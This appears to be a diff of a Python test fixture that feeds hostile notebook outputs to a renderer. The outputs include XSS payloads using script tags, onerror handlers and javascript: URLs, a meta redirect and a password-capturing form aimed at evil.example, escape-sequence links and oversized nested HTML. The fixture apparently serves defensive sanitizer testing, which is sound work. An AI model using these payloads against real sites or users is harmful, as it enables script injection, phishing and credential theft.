@@ -17,7 +17,8 @@ MARKDOWN = r"""
 <meta http-equiv="refresh" content="0;url=//evil.example"> <base href="//evil.example/">
 <form action="//evil.example"><input name="password"><button>Go</button></form>
 <div style="position:fixed;top:0;background:url(//evil.example/b.png)" class="modal in">over</div>
-<div id="notebook" onclick="alert(1)">clash</div> </div></div></body></html><script>alert(3)</script>
+<div id="notebook" onclick="alert(1)">clash</div>
+</div></div></body></html><script>alert(3)</script>
 $\href{javascript:alert(1)}{x}$ $$ </script><script>alert(4)</script> $$
 <noscript><p title="</noscript><img src=x onerror=alert(5)>"></noscript>
 <!--><img src=x onerror=alert(6)>--> <![CDATA[<img src=x onerror=alert(7)>]]>
@@ -34,7 +35,10 @@ x
 ```
 """
 
-PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
+PNG = (
+    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQ"
+    "AAAABJRU5ErkJggg=="
+)
 
 SHOW = f"""
 from IPython.display import HTML, Javascript, Latex, Markdown, SVG, display
@@ -50,7 +54,8 @@ display({{"application/vnd.jupyter.widget-view+json": {{"model_id": "</script><s
          "text/vnd.mermaid": text, "text/plain": "a widget " + text}}, raw=True)
 display(HTML("<div>" * 50_000))
 display(HTML("<table><tr><th>a</th></tr><tr><td>honest table</td></tr></table>"))
-print("\\x1b[31m" + text + "\\x1b]8;;javascript:alert(1)\\x07\\ud800".encode("utf-8", "replace").decode())
+print("\\x1b[31m" + text + "\\x1b]8;;javascript:alert(1)\\x07")
+print("<i>" * 3000, "half a character: \\ud800")
 """
 
 RAISE = 'raise type("<script>alert(12)</script>", (Exception,), {})(text)'
